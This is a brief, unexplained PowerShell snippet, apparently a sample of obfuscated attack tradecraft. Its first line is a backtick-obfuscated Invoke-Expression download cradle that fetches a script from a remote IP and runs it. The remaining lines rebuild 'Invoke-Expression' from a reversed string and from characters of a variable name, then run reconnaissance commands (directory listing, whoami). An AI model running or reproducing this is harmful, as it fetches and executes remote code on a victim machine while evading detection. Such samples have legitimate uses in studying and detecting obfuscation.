i`E`x (n`ew-ob`jeCt n`et.we`Bcli`EnT).dOwNlOaDsTrInG('http://192.0.2.81/t.ps1')
$s = 'noisserpxE-ekovnI'
$c = ($s[-1..-($s.Length)] -join '')
& $c 'Get-ChildItem'
&((gv '*mdr*').Name[3,11,2] -join '') 'whoami'
